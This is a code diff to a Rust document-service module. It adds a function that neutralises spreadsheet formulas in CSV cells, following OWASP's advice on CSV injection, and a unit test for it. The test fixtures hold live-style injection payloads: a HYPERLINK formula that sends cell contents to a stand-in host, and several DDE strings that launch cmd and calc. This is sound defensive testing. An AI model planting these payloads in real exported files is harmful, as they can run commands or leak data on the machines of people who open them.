@@ -19,6 +19,18 @@ use crate::services::{Context, Principal, ServiceError};
 
 pub const PDF: &str = "application/pdf";
 
+/// A text cell for a CSV file given to a requester, safe to open in a spreadsheet: a cell
+/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula
+/// (which can run commands or send data away), so it gets a leading `'`, which spreadsheets
+/// take as "text follows" (OWASP's advice for CSV injection). Every other cell is unchanged.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
 #[derive(Debug, Clone, Serialize, ToSchema)]
 pub struct DocumentOutput {
     pub id: String,
@@ -77,4 +89,33 @@ pub fn find(
     let mut conn = ctx.conn()?;
     doc_db::find_document(&mut conn, &principal.org_id, doc_id)?
         .ok_or(ServiceError::NotFound("document"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_cell;
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+        for (cell, safe) in [
+            (
+                "=HYPERLINK(\"http://x.example/?\"&A1)",
+                "'=HYPERLINK(\"http://x.example/?\"&A1)",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            (
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "'@SUM(1+1)*cmd|' /C calc'!A0",
+            ),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("Maija Meikäläinen", "Maija Meikäläinen"),
+            ("a=b", "a=b"),
+            (" =1", " =1"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(cell), safe, "{cell:?}");
+        }
+    }
 }
